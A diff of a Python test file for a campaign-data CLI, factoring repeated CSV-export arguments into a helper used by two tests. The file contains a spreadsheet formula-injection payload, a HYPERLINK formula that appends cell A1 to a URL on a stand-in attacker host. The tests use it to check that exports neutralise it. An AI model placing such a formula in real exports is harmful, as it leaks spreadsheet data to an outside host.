@@ -139,6 +139,20 @@ def test_query_failures_become_store_errors(tmp_path: Path) -> None:
     assert "no_such_column" in failed.value.message
 
 
+def _export_csv(db: Path, out: Path) -> subprocess.CompletedProcess[str]:
+    return _cli(
+        "export",
+        "--campaign",
+        "Spring launch",
+        "--format",
+        "csv",
+        "--out",
+        str(out),
+        "--db",
+        str(db),
+    )
+
+
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 
@@ -152,17 +166,7 @@ def test_a_name_that_looks_like_a_formula_stays_text_in_the_csv(
     )
     assert renamed.returncode == 0, renamed.stderr
     out = tmp_path / "all.csv"
-    done = _cli(
-        "export",
-        "--campaign",
-        "Spring launch",
-        "--format",
-        "csv",
-        "--out",
-        str(out),
-        "--db",
-        str(writable_db),
-    )
+    done = _export_csv(writable_db, out)
     assert done.returncode == 0, done.stderr
     text = out.read_text(encoding="utf-8-sig")
     assert "'=HYPERLINK(" in text
@@ -179,17 +183,7 @@ def test_export_out_that_cannot_be_written_is_one_line(analysed_db: Path, tmp_pa
         (tmp_path, "Export not written"),
         (analysed_db, "Export would overwrite the database"),
     ):
-        done = _cli(
-            "export",
-            "--campaign",
-            "Spring launch",
-            "--format",
-            "csv",
-            "--out",
-            str(out),
-            "--db",
-            str(analysed_db),
-        )
+        done = _export_csv(analysed_db, out)
         assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
         assert done.stderr.strip().splitlines()[-1].startswith(f"error: {title}:"), done.stderr
     assert analysed_db.read_bytes() == before
